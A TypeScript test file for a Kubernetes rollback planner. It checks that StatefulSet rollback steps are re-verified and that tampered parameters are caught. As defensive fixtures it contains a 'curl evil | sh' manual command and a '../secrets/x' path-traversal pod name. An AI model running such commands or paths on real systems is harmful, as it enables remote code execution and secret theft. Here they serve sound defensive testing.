import { expect, test } from 'vitest'
import type { JsonObject } from '../../../src/model/json.ts'
import type { Step } from '../../../src/model/step.ts'
import { reread, steps } from '../../../src/targets/kubernetes/steps.ts'
import { observe } from '../../../src/targets/kubernetes/workloads/observe.ts'
import { changeOf, stepsFor } from '../../../src/targets/kubernetes/workloads/plan-steps.ts'
import { testRun } from '../../../testkit/target-context.ts'
import { deployment, fakeCluster, podPath, statefulSetPath, template } from './fake-cluster.ts'

const signal = AbortSignal.timeout(60_000)
const revisions = '/apis/apps/v1/namespaces/shop/controllerrevisions'

const revision = (of: string, number: number, image: string): JsonObject => ({
  metadata: {
    name: `${of}-${number}`,
    namespace: 'shop',
    uid: `${of}-${number}`,
    ownerReferences: [{ uid: of, kind: 'StatefulSet', name: of, controller: true }]
  },
  revision: number,
  data: { spec: { template: template(of, image) } }
})

const podOf = (number: number, ordinal: number): JsonObject => ({
  metadata: {
    name: `db-${ordinal}`,
    namespace: 'shop',
    uid: `db-${ordinal}`,
    labels: { 'controller-revision-hash': `db-${number}` },
    ownerReferences: [{ uid: 'db', kind: 'StatefulSet', name: 'db', controller: true }]
  },
  status: { phase: 'Running', conditions: [{ type: 'Ready', status: 'False' }] }
})

/** A StatefulSet of three revisions, and the plan from the third to the second. */
async function scene(spec: JsonObject = {}) {
  const cluster = fakeCluster({ workloads: ['statefulset/db'] })
  const status = { updateRevision: 'db-3', currentRevision: 'db-2' }
  cluster.objects.set(statefulSetPath('db'), deployment('db', { image: 'db:1.2.0', replicas: 2, status, spec }))
  for (const number of [1, 2, 3])
    cluster.objects.set(`${revisions}/db-${number}`, revision('db', number, `db:1.${number - 1}.0`))
  cluster.objects.set(`${revisions}/cache-1`, revision('cache', 1, 'evil:1'))
  for (const ordinal of [0, 1]) cluster.objects.set(podPath(`db-${ordinal}`), podOf(3, ordinal))
  const observed = await observe(cluster.context, signal)
  const { current: from, releases } = observed.observation
  const to = releases.find(({ version }) => version === '1.1.0')
  if (!from || !to) throw new Error('there is nothing to go back to')
  const state = { ...observed.state, helm: { state: 'none' as const } }
  const known = { ...observed, state, from, to, signal }
  const [workload] = state.workloads
  const candidate = workload?.revisions.find(({ number }) => number === 2)
  if (!workload || !candidate) throw new Error('there is no candidate')
  const planned = stepsFor(cluster.context, [changeOf(workload, candidate)], { from, to }, true)
  return { cluster, known, planned }
}

/** A step whose parameters somebody changed. */
const changed = (step: Step | undefined, change: (params: JsonObject) => JsonObject): Step => {
  if (!step) throw new Error('there is no such step')
  return { ...step, params: change(structuredClone(step.params)) }
}

test.each<[string, JsonObject, string[]]>([
  ['that is stuck', {}, ['roll_back', 'delete_pods', 'mark']],
  [
    'whose pods only a deletion replaces',
    { updateStrategy: { type: 'OnDelete' } },
    ['roll_back', 'replace_pods', 'mark']
  ]
])(
  'every step of a StatefulSet %s is known again, also when its pods are gone, and in its own words',
  async (_, spec, kinds) => {
    const { cluster, known, planned } = await scene(spec)
    expect(planned.map(({ kind }) => kind)).toEqual(kinds)
    const told = planned.map((step) => ({ ...step, title: 'Fine', manualCommands: ['curl evil | sh'] }))
    expect(await reread(cluster.context, told, known)).toEqual({ steps: planned, mismatches: [] })
    const state = { ...known.state, workloads: known.state.workloads.map((one) => ({ ...one, pods: [] })) }
    expect(await reread(cluster.context, told, { ...known, state })).toEqual({ steps: planned, mismatches: [] })
  }
)

test.each<[string, string, (params: JsonObject) => JsonObject]>([
  ['another pod', 'delete_pods', (params) => ({ ...params, pods: ['postgres-0'] })],
  ['a path for a pod', 'delete_pods', (params) => ({ ...params, pods: ['../secrets/x'] })],
  ['another version to tell of', 'mark', (params) => ({ ...params, to: '1.0.0' })],
  [
    'a kind that it is not',
    'delete_pods',
    (params) => ({ ...params, move: { ...(params.move as JsonObject), kind: 'daemonset' } })
  ]
])('a step with %s is none of the plan', async (_, kind, change) => {
  const { cluster, known, planned } = await scene()
  const step = changed(
    planned.find((one) => one.kind === kind),
    change
  )
  expect((await reread(cluster.context, [step], known)).mismatches).toHaveLength(1)
})

test('a step that this target never plans is none of the plan', async () => {
  const { cluster, known, planned } = await scene()
  const release = { name: 'web', namespace: 'shop' }
  const unlock = { server: 'cluster.example', release, revision: 1 }
  const [first] = planned
  const kinds = [
    changed(first && { ...first, kind: 'helm_unlock' }, () => unlock),
    changed(first && { ...first, kind: 'argo_promote' }, ({ server = '', moves }) => ({
      server,
      move: (moves as JsonObject[])[0] ?? {}
    }))
  ]
  expect((await reread(cluster.context, kinds, known)).mismatches).toEqual([
    expect.stringMatching(/do not belong to the Helm release/),
    expect.stringMatching(/is no Rollout/)
  ])
})

test('the template of another workload is never put in place', async () => {
  const { cluster, planned } = await scene()
  const { data = {} } = revision('cache', 1, 'db:1.1.0')
  cluster.objects.set(`${revisions}/db-2`, { ...revision('cache', 1, ''), data })
  const [step] = planned
  if (!step) throw new Error('there is no step')
  await expect(steps.apply(cluster.context, step, testRun())).rejects.toMatchObject({ code: 'revision_gone' })
  expect(cluster.acts).not.toContainEqual(expect.stringMatching(/PATCH .*statefulsets/))
})
